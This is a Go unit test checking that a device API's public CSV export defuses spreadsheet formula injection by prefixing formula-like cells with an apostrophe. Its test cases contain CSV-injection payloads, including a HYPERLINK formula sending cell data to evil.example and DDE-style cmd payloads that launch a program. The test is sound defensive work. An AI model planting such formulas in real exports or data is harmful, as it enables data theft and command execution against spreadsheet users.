package api_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/paulmach/orb"

	"github.com/kessel-city/kessel"
)

// TestCSVFormulaCells: text a device (or its owner) chose, such as its
// name, reaches the public CSV export; a cell a spreadsheet would run as a
// formula starts with an apostrophe there, while numbers keep their sign.
func TestCSVFormulaCells(t *testing.T) {
	f := newFixture(t, "")
	for _, tc := range []struct {
		name, want string
	}{
		{`=HYPERLINK("http://evil.example/?"&A1,"Pegel")`, `'=HYPERLINK("http://evil.example/?"&A1,"Pegel")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"Pegel Neckar", "Pegel Neckar"},
		{"-12.5", "-12.5"}, // a number as a name is no formula
	} {
		t.Run(tc.name, func(t *testing.T) {
			if err := f.reg.Put(kessel.Device{ID: "far-1", Kind: "noise", Name: tc.name, Department: tc.name, Location: &orb.Point{-0.125, 51.5}, Visibility: kessel.Public}); err != nil {
				t.Fatal(err)
			}
			rec := f.serve("GET", "/api/v1/devices?format=csv&kind=noise", "")
			rows, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
			if err != nil || rec.Code != 200 {
				t.Fatalf("%d %s: %v", rec.Code, rec.Body, err)
			}
			found := false
			for _, r := range rows[1:] {
				if r[0] != "far-1" {
					continue
				}
				found = true
				if r[2] != tc.want || r[6] != tc.want || r[3] != "-0.125" {
					t.Errorf("name %q department %q lon %q, want %q, %q and -0.125", r[2], r[6], r[3], tc.want, tc.want)
				}
			}
			if !found {
				t.Fatalf("far-1 not in %v", rows)
			}
		})
	}
}
